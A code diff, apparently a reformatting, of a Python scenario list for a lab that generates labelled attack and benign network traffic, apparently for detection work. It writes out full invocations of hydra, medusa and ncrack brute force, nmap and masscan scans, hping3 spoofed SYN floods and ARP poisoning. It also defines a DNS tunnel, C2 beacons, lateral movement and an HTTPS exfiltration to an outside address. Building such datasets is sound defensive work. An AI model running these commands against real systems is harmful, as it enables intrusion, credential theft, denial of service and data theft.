-                notes="ncrack, not hydra: hydra 9.4's mysql module sends COM_QUIT before authenticating to MariaDB 10.11 (error 1156) and guesses nothing"),
-    brute_force("mysql-bruteforce-medusa-3307", "medusa", "db1", 3307, "mysql", ["medusa", "-h", DB1, "-n", "3307", "-u", DB_USER, "-P", SSH_WORDS, "-M", "mysql", "-t", "4"],
-                "medusa guesses 25 passwords for the MariaDB user app on the second port 3307"),
-    brute_force("postgres-bruteforce-hydra", "hydra", "db1", 5432, "postgresql", ["hydra", "-I", "-L", SSH_USERS, "-P", SSH_WORDS, "-t", "4", f"postgres://{DB1}:5432"],
-                "hydra guesses 4 users x 25 passwords against PostgreSQL 5432"),
-    brute_force("vnc-bruteforce-hydra", "hydra", "ws5", 5900, "vnc", ["hydra", "-I", "-P", SSH_WORDS, "-t", "2", "-W", "1", f"vnc://{HOSTS['ws5'].ip}:5900"],
-                "hydra guesses 25 VNC passwords against TigerVNC (Xvnc) on ws5"),
-    brute_force("smb-bruteforce-hydra", "hydra", "srv1", 445, "smb", ["hydra", "-I", "-L", SSH_USERS, "-P", SSH_WORDS, "-t", "1", f"smb://{SRV1}"],
-                "hydra guesses 4 users x 25 passwords against Samba over SMB1 (NTLM)", notes="the lab's Samba allows SMB1 (server min protocol = NT1) because hydra's smb module speaks only SMB1"),
-    scan("portscan-nmap-syn", "PORT_SCAN", ["nmap", "-sS", "-n", "-T4", SRV1], "srv1", "nmap SYN scan of the top 1000 TCP ports of srv1"),
-    scan("portscan-nmap-connect", "PORT_SCAN", ["nmap", "-sT", "-n", "-T4", DB1], "db1", "nmap connect() scan of the top 1000 TCP ports of db1"),
-    scan("portscan-nmap-udp", "PORT_SCAN", ["nmap", "-sU", "-n", "--top-ports", "40", SRV1], "srv1", "nmap UDP scan of the top 40 UDP ports of srv1"),
-    scan("portscan-nmap-fin", "PORT_SCAN", ["nmap", "-sF", "-n", "-T4", "--top-ports", "300", SRV1], "srv1", "nmap FIN scan, top 300 ports of srv1"),
-    scan("portscan-nmap-null", "PORT_SCAN", ["nmap", "-sN", "-n", "-T4", "--top-ports", "300", DB1], "db1", "nmap NULL scan, top 300 ports of db1"),
-    scan("portscan-nmap-xmas", "PORT_SCAN", ["nmap", "-sX", "-n", "-T4", "--top-ports", "300", SRV1], "srv1", "nmap XMAS scan, top 300 ports of srv1"),
-    scan("portscan-nmap-slow", "PORT_SCAN", ["nmap", "-sS", "-n", "-T1", "-p", "21-23,80,443,445,3306,3389,5432", DB1], "db1",
-         "nmap -T1 (sneaky: 15 s between probes) SYN scan of 9 ports of db1, about 3 minutes"),
-    scan("portscan-masscan", "PORT_SCAN", ["masscan", SRV1, "-p1-3000", "--rate", "1000", "-e", "eth0", "--router-mac", HOSTS["srv1"].mac, "--wait", "3"], "srv1",
-         "masscan of TCP ports 1-3000 of srv1 at 1000 packets/s", tool="masscan", notes="masscan's own TCP stack: the attacker's kernel answers the SYN-ACKs with RSTs"),
-    scan("sweep-nmap-arp", "NETWORK_SWEEP", ["nmap", "-sn", "-n", "10.77.0.0/24"], None, "nmap -sn of 10.77.0.0/24 from a LAN host: an ARP sweep of 254 addresses",
-         evidence=f"arp.opcode==1 && eth.src=={ATTACKER.mac}"),
-    scan("sweep-nmap-icmp", "NETWORK_SWEEP", ["nmap", "-sn", "-n", "--send-ip", "-PE", "10.77.0.0/24"], None, "nmap -sn --send-ip -PE: ICMP echo sweep of 10.77.0.0/24 (with the ARP each needs)",
-         evidence=f"icmp.type==8 && ip.src=={ATTACKER.ip}"),
-    scan("sweep-nmap-tcp22", "NETWORK_SWEEP", ["nmap", "-Pn", "-n", "-sS", "-p", "22", "--open", "10.77.0.0/24"], None, "nmap SYN probe of port 22 on every address of 10.77.0.0/24 (one port, many hosts)",
-         evidence=f"ip.src=={ATTACKER.ip} && tcp.dstport==22 && tcp.flags.syn==1"),
-    scan("synflood-hping3", "SYN_FLOOD", ["hping3", "-S", "-p", "443", "-i", "u250", "-c", "12000", SRV1], "srv1", "hping3 SYN flood, 12,000 SYNs at 4000/s to srv1:443 from the attacker's own address",
-         tool="hping3", snaplen=128, evidence=f"ip.addr=={ATTACKER.ip} && ip.addr=={SRV1} && tcp.port==443"),
-    scan("synflood-hping3-randsource", "SYN_FLOOD", ["hping3", "-S", "-p", "80", "-i", "u250", "-c", "12000", "--rand-source", SRV1], "srv1",
-         "hping3 SYN flood, 12,000 SYNs at 4000/s to srv1:80 from random spoofed sources", tool="hping3", snaplen=128,
-         evidence=f"eth.src=={ATTACKER.mac} && tcp.dstport==80 && tcp.flags.syn==1", notes=f"sources are random spoofed addresses: only the attacker's MAC identifies it (its real address {ATTACKER.ip} sends none of it)", spoofed=True),
-    arp_spoof("arpspoof-dsniff", "arpspoof", ["arpspoof", "-i", "eth0", "-t", HOSTS["ws2"].ip, "-r", HOSTS["gw"].ip], None,
-              "dsniff's arpspoof poisons ws2 and the gateway (both ways) for 45 s while ws2 browses; the attacker forwards", "arpspoof re-ARPs the true MACs when it stops"),
-    arp_spoof("arpspoof-ettercap", "ettercap", ["ettercap", "-T", "-q", "-i", "eth0", "-M", "arp:remote", f"/{HOSTS['ws2'].ip}//", f"/{HOSTS['gw'].ip}//"], "q",
-              "ettercap -M arp:remote poisons ws2 and the gateway for 45 s while ws2 browses", "ettercap first ARP-scans the /24 to build its host list, and forwards the victims' packets itself"),
-    arp_spoof("arpspoof-bettercap", "bettercap", ["bettercap", "-iface", "eth0", "-gateway-override", HOSTS["gw"].ip, "-no-colors", "-eval", f"set arp.spoof.targets {HOSTS['ws2'].ip}; set arp.spoof.fullduplex true; arp.spoof on"], "quit\n",
-              "bettercap arp.spoof (full duplex) poisons ws2 and the gateway for 45 s while ws2 browses", "bettercap also probes the LAN (net.recon) at start"),
-    Scenario("dns-tunnel-iodine", "attack", "iodine carries a 120 KB file from ws4 through a DNS tunnel (via the LAN resolver) to iodined on 203.0.113.53", iodine_tunnel),
+    brute_force(
+        "ssh-bruteforce-hydra-22",
+        "hydra",
+        "srv1",
+        22,
+        "ssh",
+        ["hydra", "-I", "-L", SSH_USERS, "-P", SSH_WORDS, "-t", "4", "-I", f"ssh://{SRV1}:22"],
+        "hydra guesses 4 users x 25 passwords against OpenSSH on 22 (srv1)",
+    ),
+    brute_force(
+        "ssh-bruteforce-hydra-2222",
+        "hydra",
+        "srv1",
+        2222,
+        "ssh",
+        ["hydra", "-I", "-L", SSH_USERS, "-P", SSH_WORDS, "-t", "4", "-I", f"ssh://{SRV1}:2222"],
+        "hydra guesses 4 users x 25 passwords against OpenSSH on the non-standard port 2222 (srv1)",
+    ),
+    brute_force(
+        "ssh-bruteforce-medusa-22",
+        "medusa",
+        "db1",
+        22,
+        "ssh",
+        ["medusa", "-h", DB1, "-U", SSH_USERS, "-P", SSH_WORDS, "-M", "ssh", "-t", "4"],
+        "medusa guesses 4 users x 25 passwords against OpenSSH on 22 (db1)",
+    ),
+    brute_force(
+        "ssh-bruteforce-ncrack-2222",
+        "ncrack",
+        "srv1",
+        2222,
+        "ssh",
+        ["ncrack", "-U", SSH_USERS, "-P", SSH_WORDS, f"ssh://{SRV1}:2222"],
+        "ncrack guesses 4 users x 25 passwords against OpenSSH on 2222 (srv1), several guesses per connection",
+    ),
+    Scenario(
+        "ssh-bruteforce-hydra-success",
+        "attack",
+        "hydra guesses carol's password on srv1:2222 (hit at the 17th guess), then logs in with it",
+        ssh_success,
+    ),
+    brute_force(
+        "ftp-bruteforce-hydra-2121",
+        "hydra",
+        "srv1",
+        2121,
+        "ftp",
+        ["hydra", "-I", "-l", "bob", "-P", SSH_WORDS, "-t", "4", f"ftp://{SRV1}:2121"],
+        "hydra guesses 25 passwords for bob against vsftpd on the non-standard port 2121",
+        secondary=["CLEARTEXT_CREDENTIALS"],
+    ),
+    brute_force(
+        "mysql-bruteforce-ncrack-3306",
+        "ncrack",
+        "db1",
+        3306,
+        "mysql",
+        ["ncrack", "--user", DB_USER, "-P", SSH_WORDS, f"mysql://{DB1}:3306"],
+        "ncrack guesses 25 passwords for the MariaDB user app on 3306",
+        notes="ncrack, not hydra: hydra 9.4's mysql module sends COM_QUIT before authenticating to MariaDB 10.11 "
+        "(error 1156) and guesses nothing",
+    ),
+    brute_force(
+        "mysql-bruteforce-medusa-3307",
+        "medusa",
+        "db1",
+        3307,
+        "mysql",
+        ["medusa", "-h", DB1, "-n", "3307", "-u", DB_USER, "-P", SSH_WORDS, "-M", "mysql", "-t", "4"],
+        "medusa guesses 25 passwords for the MariaDB user app on the second port 3307",
+    ),
+    brute_force(
+        "postgres-bruteforce-hydra",
+        "hydra",
+        "db1",
+        5432,
+        "postgresql",
+        ["hydra", "-I", "-L", SSH_USERS, "-P", SSH_WORDS, "-t", "4", f"postgres://{DB1}:5432"],
+        "hydra guesses 4 users x 25 passwords against PostgreSQL 5432",
+    ),
+    brute_force(
+        "vnc-bruteforce-hydra",
+        "hydra",
+        "ws5",
+        5900,
+        "vnc",
+        ["hydra", "-I", "-P", SSH_WORDS, "-t", "2", "-W", "1", f"vnc://{HOSTS['ws5'].ip}:5900"],
+        "hydra guesses 25 VNC passwords against TigerVNC (Xvnc) on ws5",
+    ),
+    brute_force(
+        "smb-bruteforce-hydra",
+        "hydra",
+        "srv1",
+        445,
+        "smb",
+        ["hydra", "-I", "-L", SSH_USERS, "-P", SSH_WORDS, "-t", "1", f"smb://{SRV1}"],
+        "hydra guesses 4 users x 25 passwords against Samba over SMB1 (NTLM)",
+        notes="the lab's Samba allows SMB1 (server min protocol = NT1) because hydra's smb module speaks only SMB1",
+    ),
+    scan(
+        "portscan-nmap-syn",
+        "PORT_SCAN",
+        ["nmap", "-sS", "-n", "-T4", SRV1],
+        "srv1",
+        "nmap SYN scan of the top 1000 TCP ports of srv1",
+    ),
+    scan(
+        "portscan-nmap-connect",
+        "PORT_SCAN",
+        ["nmap", "-sT", "-n", "-T4", DB1],
+        "db1",
+        "nmap connect() scan of the top 1000 TCP ports of db1",
+    ),
+    scan(
+        "portscan-nmap-udp",
+        "PORT_SCAN",
+        ["nmap", "-sU", "-n", "--top-ports", "40", SRV1],
+        "srv1",
+        "nmap UDP scan of the top 40 UDP ports of srv1",
+    ),
+    scan(
+        "portscan-nmap-fin",
+        "PORT_SCAN",
+        ["nmap", "-sF", "-n", "-T4", "--top-ports", "300", SRV1],
+        "srv1",
+        "nmap FIN scan, top 300 ports of srv1",
+    ),
+    scan(
+        "portscan-nmap-null",
+        "PORT_SCAN",
+        ["nmap", "-sN", "-n", "-T4", "--top-ports", "300", DB1],
+        "db1",
+        "nmap NULL scan, top 300 ports of db1",
+    ),
+    scan(
+        "portscan-nmap-xmas",
+        "PORT_SCAN",
+        ["nmap", "-sX", "-n", "-T4", "--top-ports", "300", SRV1],
+        "srv1",
+        "nmap XMAS scan, top 300 ports of srv1",
+    ),
+    scan(
+        "portscan-nmap-slow",
+        "PORT_SCAN",
+        ["nmap", "-sS", "-n", "-T1", "-p", "21-23,80,443,445,3306,3389,5432", DB1],
+        "db1",
+        "nmap -T1 (sneaky: 15 s between probes) SYN scan of 9 ports of db1, about 3 minutes",
+    ),
+    scan(
+        "portscan-masscan",
+        "PORT_SCAN",
+        ["masscan", SRV1, "-p1-3000", "--rate", "1000", "-e", "eth0", "--router-mac", HOSTS["srv1"].mac, "--wait", "3"],
+        "srv1",
+        "masscan of TCP ports 1-3000 of srv1 at 1000 packets/s",
+        tool="masscan",
+        notes="masscan's own TCP stack: the attacker's kernel answers the SYN-ACKs with RSTs",
+    ),
+    scan(
+        "sweep-nmap-arp",
+        "NETWORK_SWEEP",
+        ["nmap", "-sn", "-n", "10.77.0.0/24"],
+        None,
+        "nmap -sn of 10.77.0.0/24 from a LAN host: an ARP sweep of 254 addresses",
+        evidence=f"arp.opcode==1 && eth.src=={ATTACKER.mac}",
+    ),
+    scan(
+        "sweep-nmap-icmp",
+        "NETWORK_SWEEP",
+        ["nmap", "-sn", "-n", "--send-ip", "-PE", "10.77.0.0/24"],
+        None,
+        "nmap -sn --send-ip -PE: ICMP echo sweep of 10.77.0.0/24 (with the ARP each needs)",
+        evidence=f"icmp.type==8 && ip.src=={ATTACKER.ip}",
+    ),
+    scan(
+        "sweep-nmap-tcp22",
+        "NETWORK_SWEEP",
+        ["nmap", "-Pn", "-n", "-sS", "-p", "22", "--open", "10.77.0.0/24"],
+        None,
+        "nmap SYN probe of port 22 on every address of 10.77.0.0/24 (one port, many hosts)",
+        evidence=f"ip.src=={ATTACKER.ip} && tcp.dstport==22 && tcp.flags.syn==1",
+    ),
+    scan(
+        "synflood-hping3",
+        "SYN_FLOOD",
+        ["hping3", "-S", "-p", "443", "-i", "u250", "-c", "12000", SRV1],
+        "srv1",
+        "hping3 SYN flood, 12,000 SYNs at 4000/s to srv1:443 from the attacker's own address",
+        tool="hping3",
+        snaplen=128,
+        evidence=f"ip.addr=={ATTACKER.ip} && ip.addr=={SRV1} && tcp.port==443",
+    ),
+    scan(
+        "synflood-hping3-randsource",
+        "SYN_FLOOD",
+        ["hping3", "-S", "-p", "80", "-i", "u250", "-c", "12000", "--rand-source", SRV1],
+        "srv1",
+        "hping3 SYN flood, 12,000 SYNs at 4000/s to srv1:80 from random spoofed sources",
+        tool="hping3",
+        snaplen=128,
+        evidence=f"eth.src=={ATTACKER.mac} && tcp.dstport==80 && tcp.flags.syn==1",
+        notes=f"sources are random spoofed addresses: only the attacker's MAC identifies it (its real address "
+        f"{ATTACKER.ip} sends none of it)",
+        spoofed=True,
+    ),
+    arp_spoof(
+        "arpspoof-dsniff",
+        "arpspoof",
+        ["arpspoof", "-i", "eth0", "-t", HOSTS["ws2"].ip, "-r", HOSTS["gw"].ip],
+        None,
+        "dsniff's arpspoof poisons ws2 and the gateway (both ways) for 45 s while ws2 browses; the attacker forwards",
+        "arpspoof re-ARPs the true MACs when it stops",
+    ),
+    arp_spoof(
+        "arpspoof-ettercap",
+        "ettercap",
+        ["ettercap", "-T", "-q", "-i", "eth0", "-M", "arp:remote", f"/{HOSTS['ws2'].ip}//", f"/{HOSTS['gw'].ip}//"],
+        "q",
+        "ettercap -M arp:remote poisons ws2 and the gateway for 45 s while ws2 browses",
+        "ettercap first ARP-scans the /24 to build its host list, and forwards the victims' packets itself",
+    ),
+    arp_spoof(
+        "arpspoof-bettercap",
+        "bettercap",
+        [
+            "bettercap",
+            "-iface",
+            "eth0",
+            "-gateway-override",
+            HOSTS["gw"].ip,
+            "-no-colors",
+            "-eval",
+            f"set arp.spoof.targets {HOSTS['ws2'].ip}; set arp.spoof.fullduplex true; arp.spoof on",
+        ],
+        "quit\n",
+        "bettercap arp.spoof (full duplex) poisons ws2 and the gateway for 45 s while ws2 browses",
+        "bettercap also probes the LAN (net.recon) at start",
+    ),
+    Scenario(
+        "dns-tunnel-iodine",
+        "attack",
+        "iodine carries a 120 KB file from ws4 through a DNS tunnel (via the LAN resolver) to iodined on 203.0.113.53",
+        iodine_tunnel,
+    ),
     beacon("c2-beacon-http-2s", 2, 0.0, 2, "http"),
     beacon("c2-beacon-https-5s-j20", 5, 0.2, 3, "https"),
     beacon("c2-beacon-https-30s-j50", 30, 0.5, 6, "https"),
-    Scenario("c2-beacon-websocket-5s", "attack", "ws6 keeps one TLS WebSocket open to 203.0.113.77 for 3 min and checks in inside it every 5 s, jitter 10 % (stand-in implant)", ws_beacon),
-    cleartext("cleartext-ftp-21", "srv1", 21, "ftp", ["curl", "-s", "-u", f"bob:{USERS['bob']}", f"ftp://{SRV1}/"], "bob lists his FTP home on vsftpd:21 with curl (USER/PASS in clear)"),
-    cleartext("cleartext-ftp-2121", "srv1", 2121, "ftp", ["lftp", "-u", f"bob,{USERS['bob']}", "-e", "ls; bye", f"ftp://{SRV1}:2121"], "bob logs in to vsftpd on the non-standard port 2121 with lftp (USER/PASS in clear)"),
-    cleartext("cleartext-telnet", "srv1", 23, "telnet", ["expect", "-c", TELNET_EXPECT], "bob logs in over telnet to srv1 and runs two commands (login and password typed in clear)"),
-    cleartext("cleartext-http-basic", "srv1", 80, "http", ["curl", "-s", "-u", f"{INTRANET_USER}:{INTRANET_PASSWORD}", f"http://{SRV1}/admin/"], "curl with HTTP Basic auth to the intranet on port 80"),
-    cleartext("cleartext-http-basic-8080", "srv1", 8080, "http", ["curl", "-s", "-u", f"{INTRANET_USER}:{INTRANET_PASSWORD}", f"http://{SRV1}:8080/admin/"], "curl with HTTP Basic auth to the intranet on port 8080"),
-    Scenario("lateral-movement-ssh-smb", "attack", "ws3 logs in with bob's stolen password over SSH to 9 internal hosts, then reads an SMB share on srv1", lateral_movement),
-    Scenario("exfil-https-put-100mb", "attack", "ws4 uploads 100 MiB of random data by HTTPS PUT (curl) to 185.53.178.10", exfiltration, snaplen=128),
-    benign("benign-office-10min", "10 minutes of ordinary office traffic: browsing, update checks every 60 s from 7 hosts, NTP, monitoring every 30 s, DNS, intranet pages, 2 MB HTTPS downloads",
-           office_day, [host_doing(h, "every 25 s in turn: resolves srv1.corp.lab, fetches an intranet page; every 100 s a 2 MB HTTPS download from static.cdnhost.example (wget)") for h in ("ws5", "ws6", "admin")]),
-    benign("benign-admin-ssh", "the admin's SSH work: an interactive session with one mistyped password, scp both ways, a session on srv1:2222, a key-based command",
-           admin_work, [host_doing("admin", "alice (IT admin) on srv1 via SSH with expect, one wrong password then the right one; scp to db1 and from srv1; sshpass session to srv1:2222; key-based ssh to db1")]),
-    benign("benign-ansible-fanout", "the admin runs Ansible ad-hoc (setup, shell, copy) over SSH against 10 hosts, 5 at a time",
-           ansible_fanout, [host_doing("admin", "ansible-core from 10.77.0.30 as alice with a key: setup, shell, copy modules on gw, mon, srv1, db1, ws1-ws6 (fan-out of successful SSH sessions)")]),
-    benign("benign-backup-upload-100mb", "nightly-backup-like job: srv1 uploads a 100 MiB archive by scp to the backup provider vault.backupcloud.example (198.51.100.20)",
-           backup_upload, [host_doing("srv1", "backup job: scp of a 100 MiB archive as svc_backup (key) to the backup provider 198.51.100.20 (benign; the provider is the site's own)")], snaplen=128),
-]  # fmt: skip
+    Scenario(
+        "c2-beacon-websocket-5s",
+        "attack",
+        "ws6 keeps one TLS WebSocket open to 203.0.113.77 for 3 min and checks in inside it every 5 s, jitter 10 % "
+        "(stand-in implant)",
+        ws_beacon,
+    ),
+    cleartext(
+        "cleartext-ftp-21",
+        "srv1",
+        21,
+        "ftp",
+        ["curl", "-s", "-u", f"bob:{USERS['bob']}", f"ftp://{SRV1}/"],
+        "bob lists his FTP home on vsftpd:21 with curl (USER/PASS in clear)",
+    ),
+    cleartext(
+        "cleartext-ftp-2121",
+        "srv1",
+        2121,
+        "ftp",
+        ["lftp", "-u", f"bob,{USERS['bob']}", "-e", "ls; bye", f"ftp://{SRV1}:2121"],
+        "bob logs in to vsftpd on the non-standard port 2121 with lftp (USER/PASS in clear)",
+    ),
+    cleartext(
+        "cleartext-telnet",
+        "srv1",
+        23,
+        "telnet",
+        ["expect", "-c", TELNET_EXPECT],
+        "bob logs in over telnet to srv1 and runs two commands (login and password typed in clear)",
+    ),
+    cleartext(
+        "cleartext-http-basic",
+        "srv1",
+        80,
+        "http",
+        ["curl", "-s", "-u", f"{INTRANET_USER}:{INTRANET_PASSWORD}", f"http://{SRV1}/admin/"],
+        "curl with HTTP Basic auth to the intranet on port 80",
+    ),
+    cleartext(
+        "cleartext-http-basic-8080",
+        "srv1",
+        8080,
+        "http",
+        ["curl", "-s", "-u", f"{INTRANET_USER}:{INTRANET_PASSWORD}", f"http://{SRV1}:8080/admin/"],
+        "curl with HTTP Basic auth to the intranet on port 8080",
+    ),
+    Scenario(
+        "lateral-movement-ssh-smb",
+        "attack",
+        "ws3 logs in with bob's stolen password over SSH to 9 internal hosts, then reads an SMB share on srv1",
+        lateral_movement,
+    ),
+    Scenario(
+        "exfil-https-put-100mb",
+        "attack",
+        "ws4 uploads 100 MiB of random data by HTTPS PUT (curl) to 185.53.178.10",
+        exfiltration,
+        snaplen=128,
+    ),
+    benign(
+        "benign-office-10min",
+        "10 minutes of ordinary office traffic: browsing, update checks every 60 s from 7 hosts, NTP, monitoring "
+        "every 30 s, DNS, intranet pages, 2 MB HTTPS downloads",
+        office_day,
+        [
+            host_doing(
+                h,
+                "every 25 s in turn: resolves srv1.corp.lab, fetches an intranet page; every 100 s a 2 MB HTTPS "
+                "download from static.cdnhost.example (wget)",
+            )
+            for h in ("ws5", "ws6", "admin")
+        ],
+    ),
+    benign(
+        "benign-admin-ssh",
+        "the admin's SSH work: an interactive session with one mistyped password, scp both ways, a session on "
+        "srv1:2222, a key-based command",
+        admin_work,
+        [
+            host_doing(
+                "admin",
+                "alice (IT admin) on srv1 via SSH with expect, one wrong password then the right one; scp to db1 and "
+                "from srv1; sshpass session to srv1:2222; key-based ssh to db1",
+            )
+        ],
+    ),
+    benign(
+        "benign-ansible-fanout",
+        "the admin runs Ansible ad-hoc (setup, shell, copy) over SSH against 10 hosts, 5 at a time",
+        ansible_fanout,
+        [
+            host_doing(
+                "admin",
+                "ansible-core from 10.77.0.30 as alice with a key: setup, shell, copy modules on gw, mon, srv1, db1, "
+                "ws1-ws6 (fan-out of successful SSH sessions)",
+            )
+        ],
+    ),
+    benign(
+        "benign-backup-upload-100mb",
+        "nightly-backup-like job: srv1 uploads a 100 MiB archive by scp to the backup provider "
+        "vault.backupcloud.example (198.51.100.20)",
+        backup_upload,
+        [
+            host_doing(
+                "srv1",
+                "backup job: scp of a 100 MiB archive as svc_backup (key) to the backup provider 198.51.100.20 "
+                "(benign; the provider is the site's own)",
+            )
+        ],
+        snaplen=128,
+    ),
+]
